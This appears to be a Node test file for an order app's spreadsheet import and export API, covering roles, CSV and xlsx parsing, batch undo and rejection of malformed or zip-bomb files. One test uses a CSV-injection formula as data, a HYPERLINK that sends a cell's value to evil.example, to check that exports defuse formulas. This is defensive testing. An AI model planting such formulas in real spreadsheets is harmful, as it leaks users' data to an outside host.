// Spreadsheets in and out (issue 15): POST /api/admin/import (dry run, commit as one batch) and
// GET /api/export.xlsx|csv, on a private worker with the demo data. Fixtures are made by
// `cargo run -p gendan-worker --example make_fixtures` (tests/fixtures/import/); the files too
// big to commit are made here.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  DEMO_ADMIN,
  DEMO_SALES,
  HAN,
  ROOT,
  assertApiError,
  bearer,
  freshIp,
  startDemoWorker,
} from '../support/api.mjs';

let worker;
let admin;
let sales;

const fixture = (name) => readFileSync(join(ROOT, 'tests/fixtures/import', name));

before(async () => {
  worker = await startDemoWorker();
  admin = await worker.signIn(DEMO_ADMIN.login);
  sales = await worker.signIn(DEMO_SALES.login);
});

after(async () => {
  await worker?.stop();
});

const upload = (bytes, { mode = 'both', dryRun = true, token = admin, map } = {}) => {
  const query = new URLSearchParams({ mode, dry_run: dryRun ? '1' : '0' });
  if (map) query.set('map', JSON.stringify(map));
  return worker.call(`/api/admin/import?${query}`, {
    method: 'POST',
    body: bytes,
    headers: { ...bearer(token), 'content-type': 'application/octet-stream' },
  });
};

async function exportCsv(token = admin) {
  const response = await fetch(`${worker.url}/api/export.csv`, { headers: bearer(token) });
  assert.equal(response.status, 200);
  return Buffer.from(await response.arrayBuffer());
}

async function pullAll(token) {
  const device = randomUUID();
  const orders = new Map();
  for (let cursor = 0, more = true; more; ) {
    const page = await worker.call(`/api/sync/pull?device_id=${device}&cursor=${cursor}&limit=1000`, { headers: bearer(token) });
    assert.equal(page.status, 200, page.text.slice(0, 300));
    for (const order of page.json.orders) orders.set(order.number, order);
    cursor = page.json.cursor;
    more = page.json.more;
  }
  return orders;
}

const actions = (report) => report.rows.map((row) => row.action);

function assertRefused(response, status, code) {
  assertApiError(response, status, code);
  assert.match(response.json.error.message, HAN, 'a Chinese sentence');
  assert.ok(response.json.error.message_en.length > 10, 'an English sentence');
}

test('admins and managers import; other roles are refused with the reason; a signed-out caller cannot export', async () => {
  const refused = await upload(fixture('orders_gbk.csv'), { token: sales });
  assertRefused(refused, 403, 'forbidden');
  assert.match(refused.json.error.message, /只有管理员和经理可以导入/);
  assert.match(refused.json.error.message_en, /Only admins and managers import/);
  assertRefused(await upload(fixture('orders_gbk.csv'), { token: sales, dryRun: false }), 403, 'forbidden');
  assert.equal((await worker.call('/api/export.csv')).status, 401);
  assertApiError(await upload(fixture('orders_gbk.csv'), { mode: 'sometimes' }), 400, 'bad_query');
});

test('a manager imports: the rows are created though a manager creates no orders on a phone, the history names the manager, and only the manager or an admin undoes it', async () => {
  // 周健 is a manager. On a phone a manager changes nothing a stage does not give them; an
  // import is the desk task the issue gives managers, and its rows need an order's whole
  // authority (any stage, any owner), so they are applied with it.
  const manager = await worker.signIn('13906660088');
  const header = '订单号,客户,联系人,电话,业务员,阶段\n';
  const body = Buffer.from(`${header}FX-MGR-001,经理导入甲公司,赵一,13900000501,王芳,生产/采购\nFX-MGR-002,经理导入乙公司,钱二,13900000502,,需求确认\n`);
  const dry = await upload(body, { token: manager });
  assert.equal(dry.status, 200, dry.text);
  assert.deepEqual(dry.json.totals, { create: 2, update: 0, unchanged: 0, error: 0 }, dry.text);
  const done = await upload(body, { token: manager, dryRun: false });
  assert.equal(done.status, 200, done.text);
  assert.ok(done.json.batch_id);

  const pulled = await pullAll(sales);
  const first = pulled.get('FX-MGR-001');
  assert.equal(first.stage, 'production');
  assert.equal(first.owner.name, '王芳');
  const created = first.history[0];
  assert.equal(created.actor.name, '周健', 'the history names the manager who imported');
  assert.equal(pulled.get('FX-MGR-002').owner.name, '周健', 'a row with no owner belongs to the importer');
  assert.equal((await exportCsv(manager)).subarray(0, 3).toString('hex'), 'efbbbf', 'managers export');

  const undo = (token) => worker.call(`/api/admin/import/${done.json.batch_id}/undo`, { method: 'POST', headers: bearer(token) });
  const adminsBatch = await upload(Buffer.from(`${header}FX-MGR-003,管理员导入公司,孙三,13900000503,,需求确认\n`), { dryRun: false });
  assert.equal(adminsBatch.status, 200, adminsBatch.text);
  const notTheirs = await worker.call(`/api/admin/import/${adminsBatch.json.batch_id}/undo`, { method: 'POST', headers: bearer(manager) });
  assertRefused(notTheirs, 403, 'forbidden');
  assert.match(notTheirs.json.error.message, /只能撤销自己导入的批次/);
  assertRefused(await undo(sales), 403, 'forbidden');
  const undone = await undo(manager);
  assert.equal(undone.status, 200, undone.text);
  assert.deepEqual(undone.json, { batch_id: done.json.batch_id, cancelled: 2, restored: 0 });
});

test('a GBK CSV: the dry run proposes the mapping and changes nothing; the commit creates every row once; the phones pull them; twice changes nothing', async () => {
  const dry = await upload(fixture('orders_gbk.csv'));
  assert.equal(dry.status, 200, dry.text);
  assert.equal(dry.json.dry_run, true);
  assert.deepEqual(dry.json.columns.map((c) => c.field), [
    'number', 'company', 'contact', 'phone', 'product', 'quantity', 'unit_price', 'amount', 'due_date', 'owner', 'stage', 'note',
  ]);
  assert.deepEqual(dry.json.totals, { create: 5, update: 0, unchanged: 0, error: 0 }, dry.text);
  assert.equal(dry.json.batch_id, undefined);
  assert.equal((await pullAll(sales)).has('FX-GBK-001'), false, 'a dry run writes nothing');

  const done = await upload(fixture('orders_gbk.csv'), { dryRun: false });
  assert.equal(done.status, 200, done.text);
  assert.match(done.json.batch_id, /^[0-9a-f-]{36}$/);
  assert.deepEqual(done.json.totals, { create: 5, update: 0, unchanged: 0, error: 0 });

  const pulled = await pullAll(sales);
  const first = pulled.get('FX-GBK-001');
  assert.equal(first.customer.company, '杭州明远贸易有限公司');
  assert.equal(first.customer.phone, '13900001111');
  assert.deepEqual(first.items, [{ product: '瓦楞纸箱', quantity: 100, unit: '箱', unit_price: 1250 }]);
  assert.equal(first.expected_delivery, '2026-12-20');
  assert.equal(first.owner.name, '王芳');
  assert.equal(first.notes[0].text, '老客户');
  const second = pulled.get('FX-GBK-002');
  assert.equal(second.items[0].unit_price, 60000, '1.2万 for 20');
  assert.equal(second.stage, 'contract');
  assert.equal(second.owner.name, '孙磊');
  assert.equal(pulled.get('FX-GBK-003').owner.name, '管理员', 'no owner: the importer');
  assert.equal(pulled.get('FX-GBK-005').expected_delivery, '2027-01-15', 'a serial number in a CSV');

  for (const dryRun of [true, false]) {
    const again = await upload(fixture('orders_gbk.csv'), { dryRun });
    assert.equal(again.status, 200, again.text);
    assert.deepEqual(again.json.totals, { create: 0, update: 0, unchanged: 5, error: 0 });
    assert.equal(again.json.batch_id, undefined, 'nothing written, no batch');
  }
  const after = await pullAll(sales);
  assert.equal(after.get('FX-GBK-001').history.length, first.history.length);
});

test('an xlsx with a merged title row, serial dates, numeric phones and formulas', async () => {
  const done = await upload(fixture('orders_serial_dates.xlsx'), { dryRun: false });
  assert.equal(done.status, 200, done.text);
  assert.deepEqual(done.json.totals, { create: 3, update: 0, unchanged: 0, error: 0 }, done.text);
  assert.deepEqual(done.json.rows.map((r) => r.line), [3, 4, 5], 'lines as Excel numbers them');
  const pulled = await pullAll(admin);
  const order = pulled.get('FX-XLSX-001');
  assert.equal(order.customer.phone, '13900011111');
  assert.equal(order.expected_delivery, '2026-12-20');
  assert.deepEqual(order.items, [{ product: '轴承', quantity: 40, unit_price: 8550 }]);
  assert.equal(order.stage, 'order_entry');
});

test('update mode changes only what differs, and a changed row in create mode says to use update', async () => {
  const header = '订单号,联系人,交期\r\n';
  const changed = Buffer.from(`${header}FX-GBK-004,郑小强,2027-01-20\r\n`);
  const refused = await upload(changed, { mode: 'create' });
  assert.equal(refused.json.rows[0].action, 'error');
  assert.match(refused.json.rows[0].message.zh, /更新/);
  const update = await upload(changed, { mode: 'update', dryRun: false });
  assert.equal(update.status, 200, update.text);
  assert.deepEqual(update.json.totals, { create: 0, update: 1, unchanged: 0, error: 0 });
  const order = (await pullAll(admin)).get('FX-GBK-004');
  assert.equal(order.customer.contact, '郑小强');
  assert.equal(order.customer.company, '温州鞋业', 'a column not in the file is kept');
  assert.equal(order.expected_delivery, '2027-01-20');
  const unknown = await upload(Buffer.from(`${header}FX-NOPE-1,某人,2027-01-20\r\n`), { mode: 'update' });
  assert.equal(unknown.json.rows[0].action, 'error');
  assert.equal(unknown.json.rows[0].column, '订单号');
});

test('rows with errors: each names its line, column and reason, and a commit writes nothing', async () => {
  const dup = await upload(fixture('duplicate_numbers.csv'));
  assert.deepEqual(actions(dup.json), ['create', 'create', 'error']);
  assert.equal(dup.json.rows[2].line, 4);
  assert.equal(dup.json.rows[2].column, '订单号');
  assert.match(dup.json.rows[2].message.zh, /第 2 行/);
  const commit = await upload(fixture('duplicate_numbers.csv'), { dryRun: false });
  assertRefused(commit, 422, 'import_has_errors');
  assert.equal((await pullAll(admin)).has('FX-DUP-001'), false, 'nothing half-imported');

  const stage = await upload(fixture('unknown_stage.csv'));
  assert.equal(stage.json.rows[0].code, 'unknown_stage');
  assert.equal(stage.json.rows[0].column, '状态');
  assert.match(stage.json.rows[0].message.zh, /质检/);

  const blank = await upload(fixture('blank_rows_bom.csv'));
  assert.deepEqual(blank.json.rows.map((r) => [r.line, r.action]), [[3, 'create'], [5, 'create']]);
});

test('the failing rows of a dry run download as an xlsx with 错误原因 and 出错的列, which the importer reads back as the same failing rows', async () => {
  const file = Buffer.from('订单号,客户,联系人,电话,交期,业务员\nFX-ERR-001,甲公司,赵一,13900000501,2027-01-05,王芳\nFX-ERR-002,乙公司,钱二,13900000502,下个月,王芳\nFX-ERR-003,丙公司,孙三,13900000503,2027-01-07,张三丰\n');
  const response = await fetch(`${worker.url}/api/admin/import/errors?mode=both`, {
    method: 'POST',
    body: file,
    headers: { ...bearer(admin), 'content-type': 'application/octet-stream' },
  });
  assert.equal(response.status, 200);
  assert.match(response.headers.get('content-type'), /spreadsheetml/);
  assert.match(response.headers.get('content-disposition'), /attachment; filename="import-errors-\d{8}\.xlsx"/);
  const sheet = Buffer.from(await response.arrayBuffer());

  // Read back by the importer: the file's own columns, then 错误原因 and 出错的列 (not imported),
  // and only the two failing rows, still failing for the same reasons.
  const again = await upload(sheet);
  assert.equal(again.status, 200, again.text);
  assert.deepEqual(again.json.columns.map((c) => [c.title, c.field ?? null]), [
    ['订单号', 'number'], ['客户', 'company'], ['联系人', 'contact'], ['电话', 'phone'], ['交期', 'due_date'], ['业务员', 'owner'], ['错误原因', null], ['出错的列', null],
  ]);
  assert.deepEqual(again.json.rows.map((r) => [r.number, r.action, r.column]), [
    ['FX-ERR-002', 'error', '交期'], ['FX-ERR-003', 'error', '业务员'],
  ]);
  assertRefused(
    await worker.call('/api/admin/import/errors', { method: 'POST', body: file, headers: { ...bearer(sales), 'content-type': 'application/octet-stream' } }),
    403,
    'forbidden',
  );
});

test('an admin undoes an import: its new orders cancelled, its updates restored, with history; twice is refused; a changed order blocks it by name', async () => {
  const header = '订单号,客户,联系人,电话,交期\n';
  const first = await upload(Buffer.from(`${header}FX-UNDO-003,撤销丙公司,孙三,13900000303,2027-03-03\n`), { dryRun: false });
  assert.equal(first.status, 200, first.text);
  const batch = await upload(Buffer.from(
    `${header}FX-UNDO-001,撤销甲公司,赵一,13900000301,2027-03-01\nFX-UNDO-002,撤销乙公司,钱二,13900000302,2027-03-02\nFX-UNDO-003,撤销丙公司,孙三三,13900000303,2027-04-04\n`,
  ), { dryRun: false });
  assert.equal(batch.status, 200, batch.text);
  assert.deepEqual(batch.json.totals, { create: 2, update: 1, unchanged: 0, error: 0 });
  const batchId = batch.json.batch_id;
  const undo = (id, token = admin) => worker.call(`/api/admin/import/${id}/undo`, { method: 'POST', headers: bearer(token) });

  assertRefused(await undo(batchId, sales), 403, 'forbidden');
  assertRefused(await undo(randomUUID()), 404, 'import_batch_not_found');
  const done = await undo(batchId);
  assert.equal(done.status, 200, done.text);
  assert.deepEqual(done.json, { batch_id: batchId, cancelled: 2, restored: 1 });

  const pulled = await pullAll(sales);
  for (const number of ['FX-UNDO-001', 'FX-UNDO-002']) {
    const order = pulled.get(number);
    assert.equal(order.status.kind, 'cancelled', number);
    assert.match(order.status.reason, /撤销/);
  }
  const restored = pulled.get('FX-UNDO-003');
  assert.equal(restored.customer.contact, '孙三');
  assert.equal(restored.expected_delivery, '2027-03-03');
  assert.equal(restored.status.kind, 'active');
  assert.ok(restored.history.length > 2, 'the update and its undo are both in the history');

  assertRefused(await undo(batchId), 409, 'import_already_undone');

  // Someone changes an imported order: the undo names it and changes nothing.
  const third = await upload(Buffer.from(`${header}FX-UNDO-004,撤销丁公司,李四,13900000304,2027-03-04\nFX-UNDO-005,撤销戊公司,周五,13900000305,2027-03-05\n`), { dryRun: false });
  const touched = pullAll(admin).then((orders) => orders.get('FX-UNDO-004'));
  const orderId = (await touched).id;
  const push = await worker.call('/api/sync/push', {
    json: { device_id: randomUUID(), mutations: [{ seq: 1, device_time: new Date().toISOString(), mutation: { type: 'add_note', order_id: orderId, note_id: randomUUID(), text: '客户来电确认' } }] },
    headers: bearer(admin),
  });
  assert.equal(push.status, 200, push.text);
  assert.deepEqual(push.json.rejected, []);
  const blocked = await undo(third.json.batch_id);
  assertRefused(blocked, 409, 'import_undo_blocked');
  assert.match(blocked.json.error.message, /FX-UNDO-004/);
  assert.doesNotMatch(blocked.json.error.message, /FX-UNDO-005/);
  const after = await pullAll(admin);
  assert.equal(after.get('FX-UNDO-005').status.kind, 'active', 'nothing undone');
  assert.equal(after.get('FX-UNDO-004').status.kind, 'active');
});

test('orders come in at a later stage with the dates they entered each stage', async () => {
  const body = Buffer.from('订单号,客户,联系人,电话,需求确认日期,合同签订日期\nFX-HIS-001,历史甲公司,赵一,13900000401,2026/10/8,2026-10-15\n');
  const dry = await upload(body);
  assert.equal(dry.status, 200, dry.text);
  assert.deepEqual(dry.json.columns.slice(4).map((c) => [c.field ?? null, c.stage_date?.zh]), [[null, '需求确认'], [null, '合同签订']]);
  const done = await upload(body, { dryRun: false });
  assert.equal(done.status, 200, done.text);
  assert.deepEqual(done.json.totals, { create: 1, update: 0, unchanged: 0, error: 0 });
  const order = (await pullAll(sales)).get('FX-HIS-001');
  assert.equal(order.stage, 'contract');
  assert.equal(order.created_at, '2026-10-08T01:00:00Z');
  assert.deepEqual(order.stages.map((v) => [v.stage, v.entered_at, v.left_at ?? null]), [
    ['requirement', '2026-10-08T01:00:00Z', '2026-10-15T01:00:00Z'],
    ['contract', '2026-10-15T01:00:00Z', null],
  ]);
  const future = await upload(Buffer.from('订单号,客户,联系人,电话,需求确认日期\nFX-HIS-002,历史乙公司,钱二,13900000402,2099-01-01\n'));
  assert.deepEqual(future.json.rows.map((r) => [r.action, r.column]), [['error', '需求确认日期']]);
});

test('files that cannot be imported as a whole: a clear 4xx each', async () => {
  const cases = [
    ['truncated.xlsx', 422, 'import_corrupt'],
    ['password_protected.xlsx', 422, 'import_encrypted'],
    ['old_format.xls', 422, 'import_old_xls'],
    ['merged_header.xlsx', 422, 'import_merged_header'],
    ['wide_200_columns.csv', 422, 'import_too_many_columns'],
    // One stray value at XFD1048576: once a 17-billion-cell rectangle that took the worker down.
    ['stray_far_cell.xlsx', 422, 'import_too_many_columns'],
    // About 100 KB that inflate to 101 MB.
    ['inflates_too_much.xlsx', 422, 'import_too_large_unpacked'],
  ];
  for (const [name, status, code] of cases) {
    const response = await upload(fixture(name));
    assertRefused(response, status, code);
  }
  const old = await upload(fixture('old_format.xls'));
  assert.match(old.json.error.message, /\.xlsx/);
  const merged = await upload(fixture('merged_header.xlsx'));
  assert.match(merged.json.error.message, /B1:C1/);
  assert.match((await upload(fixture('stray_far_cell.xlsx'))).json.error.message, /16384 列/);
  assert.match((await upload(fixture('inflates_too_much.xlsx'))).json.error.message, /解压后超过 100 MB/);
  const after = await upload(fixture('orders_gbk.csv'));
  assert.equal(after.status, 200, 'the worker still imports after those files');

  // A 10 MB CSV on one line: no header, said so, quickly.
  assertRefused(await upload(Buffer.alloc(10 * 1024 * 1024 - 1, 'x')), 422, 'import_no_header');
  assertRefused(await upload(Buffer.alloc(10 * 1024 * 1024 + 1, 'x')), 413, 'import_file_too_large');
  const rows = ['订单号,客户'];
  for (let i = 0; i <= 20000; i++) rows.push(`BIG-${i},公司${i}`);
  assertRefused(await upload(Buffer.from(rows.join('\n'))), 413, 'import_too_many_rows');
  assertRefused(await upload(Buffer.from('客户,电话\n甲,12345\n'), { dryRun: false }), 422, 'import_no_number_column');
  assertRefused(await upload(Buffer.alloc(0)), 422, 'import_empty');
});

test('the admin maps a header the synonyms do not know; the mapping is proposed again for the same headers', async () => {
  const body = Buffer.from('编号,客户,联系人,电话,颜色\nFX-MAP-001,庚公司,孙七,13900000007,红\n');
  // A dry run says what is missing beside the columns, so the screen can offer the choice.
  const proposed = await upload(body);
  assert.equal(proposed.status, 200, proposed.text);
  assert.equal(proposed.json.problem.code, 'import_no_number_column');
  assert.match(proposed.json.problem.message.zh, /订单号/);
  assert.deepEqual(proposed.json.columns.map((c) => c.field ?? null), [null, 'company', 'contact', 'phone', null]);
  assert.deepEqual(proposed.json.rows, []);
  assert.equal(proposed.json.remembered, false);
  assertRefused(await upload(body, { dryRun: false }), 422, 'import_no_number_column');

  const map = { 编号: 'number', 联系人: null };
  const mapped = await upload(body, { map });
  assert.equal(mapped.status, 200, mapped.text);
  assert.equal(mapped.json.problem, undefined);
  assert.deepEqual(actions(mapped.json), ['error'], 'the contact is ignored now, and required');
  const withContact = { 编号: 'number' };
  const done = await upload(body, { map: withContact, dryRun: false });
  assert.equal(done.status, 200, done.text);
  assert.deepEqual(actions(done.json), ['create']);

  // The next file with these headers (spelled a little differently) gets the mapping back.
  const next = Buffer.from('编号 ,客户,联系人,电话,颜色\nFX-MAP-001,庚公司,孙七,13900000007,红\nFX-MAP-002,辛公司,周八,13900000008,蓝\n');
  const again = await upload(next);
  assert.equal(again.status, 200, again.text);
  assert.equal(again.json.remembered, true);
  assert.deepEqual(again.json.columns.map((c) => c.field ?? null), ['number', 'company', 'contact', 'phone', null]);
  assert.deepEqual(actions(again.json), ['unchanged', 'create']);
  // Other headers: nothing remembered.
  const other = await upload(Buffer.from('编号,客户\nFX-MAP-003,壬公司\n'));
  assert.equal(other.json.remembered, false);
  assert.equal(other.json.problem.code, 'import_no_number_column');
});

test('export: every order as CSV with a BOM and as xlsx; both import back unchanged', async () => {
  const pulled = await pullAll(sales);
  const csv = await exportCsv(sales);
  assert.deepEqual([...csv.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const text = csv.toString('utf8').slice(1);
  assert.ok(text.startsWith('订单号,客户,联系人,电话,产品,数量,单价,金额,交期,业务员,阶段,备注'), text.slice(0, 80));
  for (const number of pulled.keys()) assert.ok(text.includes(number), `${number} is exported`);

  const back = await upload(csv);
  assert.equal(back.status, 200, back.text);
  assert.deepEqual(back.json.totals, { create: 0, update: 0, unchanged: pulled.size, error: 0 }, back.text.slice(0, 2000));

  const response = await fetch(`${worker.url}/api/export.xlsx`, { headers: bearer(sales) });
  assert.equal(response.status, 200);
  assert.match(response.headers.get('content-type'), /spreadsheetml/);
  assert.match(response.headers.get('content-disposition'), /attachment; filename="orders-\d{8}\.xlsx"/);
  const xlsx = Buffer.from(await response.arrayBuffer());
  const xlsxBack = await upload(xlsx);
  assert.equal(xlsxBack.status, 200, xlsxBack.text);
  assert.deepEqual(xlsxBack.json.totals, { create: 0, update: 0, unchanged: pulled.size, error: 0 });
});

test('text that Excel would run as a formula is exported as text in the CSV, and the file still imports back unchanged', async () => {
  // A company name, a contact or a customer's after-sales text is anyone's typing: opened from a
  // CSV, a cell starting with = + - @ would run in finance's Excel (a link that sends the sheet
  // away, or worse). Each is written with a leading apostrophe, which the importer takes off.
  const header = '订单号,客户,联系人,电话,备注\n';
  const formula = '=HYPERLINK("http://evil.example/?d="&A2,"查看合同")';
  const body = Buffer.from(`${header}FX-CSVI-001,"${formula.replaceAll('"', '""')}",+86 联系人,13900000601,@SUM(1+1)\nFX-CSVI-002,'引号开头公司,-李四,13900000602,\n`);
  const done = await upload(body, { dryRun: false });
  assert.equal(done.status, 200, done.text);
  assert.deepEqual(done.json.totals, { create: 2, update: 0, unchanged: 0, error: 0 }, done.text);
  const stored = await pullAll(sales);
  assert.equal(stored.get('FX-CSVI-001').customer.company, formula, 'stored as typed');
  assert.equal(stored.get('FX-CSVI-002').customer.company, "'引号开头公司", 'an apostrophe someone typed stays');

  const csv = (await exportCsv(sales)).toString('utf8');
  const row = csv.split('\n').find((line) => line.startsWith('FX-CSVI-001'));
  assert.ok(row.includes(`"'${formula.replaceAll('"', '""')}"`), row);
  assert.ok(row.includes(",'+86 联系人,"), row);
  assert.ok(row.includes(",'@SUM(1+1)"), row);
  for (const cell of csv.split(/[\n,]/)) assert.doesNotMatch(cell, /^"?[=+@-]/, `no cell starts a formula: ${cell}`);

  const back = await upload(Buffer.from(csv.replace(/^\uFEFF/, '')));
  assert.equal(back.status, 200, back.text);
  for (const number of ['FX-CSVI-001', 'FX-CSVI-002']) {
    assert.equal(back.json.rows.find((r) => r.number === number).action, 'unchanged', number);
  }
});

test('export with the board filter: only the orders the board would show, every one of them', async () => {
  const pulled = await pullAll(sales);
  const exported = async (query, token = sales) => {
    const response = await fetch(`${worker.url}/api/export.csv?${query}`, { headers: bearer(token) });
    assert.equal(response.status, 200);
    // Read back by the importer's own reader: the numbers of its rows.
    const back = await upload(Buffer.from(await response.arrayBuffer()));
    assert.equal(back.status, 200, back.text.slice(0, 300));
    return new Set(back.json.rows.map((row) => row.number));
  };
  const mine = [...pulled.values()].filter((o) => o.owner.user_id === DEMO_SALES.id).map((o) => o.number);
  assert.ok(mine.length > 0 && mine.length < pulled.size);
  assert.deepEqual(await exported('mine=1'), new Set(mine));
  const searched = [...pulled.keys()].filter((number) => number.startsWith('FX-GBK'));
  assert.deepEqual(await exported(`q=${encodeURIComponent('FX-GBK')}`), new Set(searched));
  const owner = await exported(`owner=${DEMO_SALES.id}`, admin);
  assert.deepEqual(owner, new Set(mine), 'owner: the same set whoever asks');
  const xlsx = await fetch(`${worker.url}/api/export.xlsx?mine=1`, { headers: bearer(sales) });
  const back = await upload(Buffer.from(await xlsx.arrayBuffer()));
  assert.equal(back.json.rows.length, mine.length, 'the xlsx holds the same orders');
});


test('a decimal quantity (1.5 吨 at ¥12.30) is pushed, pulled back exactly, exported as 1.5 and ¥18.45, and both exports import back unchanged', async () => {
  const device = randomUUID();
  const orderId = randomUUID();
  const create = {
    type: 'create_order',
    order_id: orderId,
    number: 'DEC-QTY-001',
    customer: { company: '宁波钢材贸易', contact: '周强', phone: '13900003333', email: null, address: null },
    // What a current phone sends: the whole number older phones read, the exact one beside it.
    items: [{ product: '冷轧钢板', quantity: 2, quantity_exact: '1.5', unit: '吨', unit_price: 1230 }],
    expected_delivery: null,
    owner: null,
    note: null,
    note_id: null,
  };
  const pushed = await worker.call('/api/sync/push', {
    json: { device_id: device, mutations: [{ seq: 1, mutation: create, device_time: new Date().toISOString() }] },
    headers: bearer(sales),
  });
  assert.equal(pushed.status, 200, pushed.text);
  assert.deepEqual(pushed.json.rejected ?? [], [], pushed.text);

  const stored = (await pullAll(sales)).get('DEC-QTY-001');
  assert.deepEqual(stored.items, [{ product: '冷轧钢板', quantity: 2, quantity_exact: '1.5', unit: '吨', unit_price: 1230 }]);

  // The customer sees 1.5 吨 too: in the lookup's JSON and on the page a link opens.
  const tracked = await worker.call('/api/track/lookup', {
    json: { order_number: 'DEC-QTY-001', phone_last4: '3333' },
    headers: { 'cf-connecting-ip': freshIp() },
  });
  assert.equal(tracked.status, 200, tracked.text);
  assert.deepEqual(tracked.json.items, [{ product: '冷轧钢板', quantity: '1.5', unit: '吨' }]);
  const page = await (await fetch(`${worker.url}/t/${tracked.json.access.token}`)).text();
  assert.ok(page.includes('冷轧钢板 × 1.5吨'), page.slice(0, 300));

  const csv = (await exportCsv(sales)).toString('utf8');
  const row = csv.split('\n').find((line) => line.startsWith('DEC-QTY-001'));
  assert.ok(row.includes(',冷轧钢板,1.5,12.30,18.45,'), row);
  const back = await upload(Buffer.from(csv.replace(/^\uFEFF/, '')));
  assert.equal(back.status, 200, back.text.slice(0, 300));
  assert.equal(back.json.rows.find((r) => r.number === 'DEC-QTY-001').action, 'unchanged', back.text.slice(0, 2000));
  assert.equal(back.json.totals.error, 0, back.text.slice(0, 2000));

  const xlsx = await fetch(`${worker.url}/api/export.xlsx`, { headers: bearer(sales) });
  const xlsxBack = await upload(Buffer.from(await xlsx.arrayBuffer()));
  assert.equal(xlsxBack.status, 200, xlsxBack.text.slice(0, 300));
  assert.equal(xlsxBack.json.rows.find((r) => r.number === 'DEC-QTY-001').action, 'unchanged', xlsxBack.text.slice(0, 2000));

  // A sheet that gives only the amount: the unit price is the one that makes it exact.
  const sheet = Buffer.from('订单号,客户,联系人,电话,产品,数量,金额\nDEC-QTY-002,宁波钢材贸易,周强,13900003333,镀锌板,0.25 吨,3.08\n');
  const imported = await upload(sheet, { dryRun: false });
  assert.equal(imported.status, 200, imported.text);
  assert.deepEqual(imported.json.totals, { create: 1, update: 0, unchanged: 0, error: 0 }, imported.text);
  const second = (await pullAll(sales)).get('DEC-QTY-002');
  assert.deepEqual(second.items, [{ product: '镀锌板', quantity: 1, quantity_exact: '0.25', unit: '吨', unit_price: 1232 }]);

  // Too many decimals: the row names 数量 and says why.
  const bad = Buffer.from('订单号,客户,联系人,电话,产品,数量,单价\nDEC-QTY-003,宁波钢材贸易,周强,13900003333,镀锌板,1.2345,10\n');
  const refused = await upload(bad);
  assert.equal(refused.status, 200, refused.text);
  const refusedRow = refused.json.rows.find((r) => r.number === 'DEC-QTY-003');
  assert.equal(refusedRow.action, 'error', refused.text);
  assert.match(JSON.stringify(refusedRow), /最多 3 位小数/, refused.text);
});
